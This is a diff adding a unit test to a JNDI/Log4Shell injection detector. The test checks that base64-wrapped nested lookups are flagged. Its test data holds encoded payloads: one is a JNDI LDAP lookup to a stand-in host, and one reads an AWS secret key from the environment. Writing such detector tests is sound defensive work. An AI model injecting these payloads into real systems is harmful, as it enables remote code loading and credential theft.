@@ -106,4 +106,15 @@ class JndiDetectorTest {
     String value = unit.repeat(1_000_000 / unit.length());
     detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
   }
+
+  @Test
+  void aLookupWhoseResultSpellsALookupIsResolvedAgain() {
+    // Log4j substitutes a result again: base64 of "${jndi:ldap://x.example/a}" becomes that lookup
+    assertRule("jndi.nested-lookup", 100, "${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}");
+    // base64 of "${env:AWS_SECRET_ACCESS_KEY}"
+    assertRule("jndi.env-exfiltration", 80, "${base64:JHtlbnY6QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZfQ==}");
+    assertNull(detect("${base64:aGVsbG8gd29ybGQ=}")); // "hello world"
+    assertNull(detect("${base64:JHtwcmljZX0=}")); // "${price}": a placeholder, not a lookup that matters
+    assertNull(detect("Use ${base64:...} in the pattern to decode a field."));
+  }
 }
